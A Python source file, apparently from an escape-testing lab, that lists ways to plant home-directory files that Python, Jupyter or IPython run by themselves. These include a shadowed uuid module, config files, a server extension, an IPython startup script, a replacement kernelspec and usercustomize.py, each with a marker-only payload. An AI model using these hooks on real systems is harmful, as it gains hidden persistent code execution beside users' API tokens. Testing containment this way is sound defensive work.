"""Family 9: files at home that Python, Jupyter or IPython run by themselves, beside the server's token."""

import json
import sys

from lab.escape.attempt import Attempt, Hook

_JUPYTER = "Jupyter documentation, 'Common Directories and File Locations'"
_PYTHON = "MITRE ATT&CK T1546.018, Python startup hooks"
_MARK = """
import os
if os.environ.get("JUPYTERHUB_API_TOKEN"):
    os.makedirs(os.path.expanduser("~/.marks"), exist_ok=True)
    open(os.path.expanduser("~/.marks/NAME"), "w").close()
"""
# The shadow of a module does its own work and then is the module.
_SHADOW = """
import importlib.util, sys, sysconfig
_own = sysconfig.get_path("stdlib") + "/" + __name__ + ".py"
_spec = importlib.util.spec_from_file_location(__name__, _own)
sys.modules[__name__] = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(sys.modules[__name__])
"""
_EXTENSION = """
def _jupyter_server_extension_points():
    return [{"module": __name__}]
def _load_jupyter_server_extension(app):
    pass
"""
_ENABLES = json.dumps({"ServerApp": {"jpserver_extensions": {"escape_extension": True}}})
_KERNEL = "\nfrom ipykernel.kernelapp import launch_new_instance\nlaunch_new_instance()\n"


def _hook(name: str, what: str, source: str, *paths: str, more: str = "", **files: str) -> Attempt:
    mark = _MARK.replace("NAME", name)
    return Attempt(f"hook-{name}", 9, what, source, Hook({**dict.fromkeys(paths, mark + more), **files}))


def _kernelspec() -> Attempt:
    code = _MARK.replace("NAME", "kernelspec") + _KERNEL
    spec = {
        "argv": [sys.executable, "-c", code, "-f", "{connection_file}"],
        "display_name": "Python 3 (ipykernel)",
        "language": "python",
    }
    how = Hook({".local/share/jupyter/kernels/python3/kernel.json": json.dumps(spec)})
    return Attempt("hook-kernelspec", 9, "put a kernel of one's own in Python's place", _JUPYTER, how)


ATTEMPTS = (
    _hook("module", "put a module of one's own in the place of one that the server loads", _PYTHON,
          "uuid.py", more=_SHADOW),
    _hook("server-config", "leave settings that are a program",
          _JUPYTER, ".jupyter/jupyter_server_config.py"),
    _hook("common-config", "leave settings of every Jupyter program", _JUPYTER, ".jupyter/jupyter_config.py"),
    _hook("extension", "enable a server extension of one's own", _JUPYTER, "escape_extension.py",
          more=_EXTENSION, **{".jupyter/jupyter_server_config.d/mine.json": _ENABLES}),
    _hook("ipython-startup", "leave a program that a kernel begins with", _JUPYTER,
          ".ipython/profile_default/startup/00-mine.py"),
    _hook("ipython-config", "leave settings of kernels that are a program", _JUPYTER,
          ".ipython/profile_default/ipython_kernel_config.py"),
    _kernelspec(),
    _hook("user-customize", "leave a program that every Python begins with", _PYTHON,
          f".local/lib/python{sys.version_info.major}.{sys.version_info.minor}/site-packages/usercustomize.py"),
)  # fmt: skip
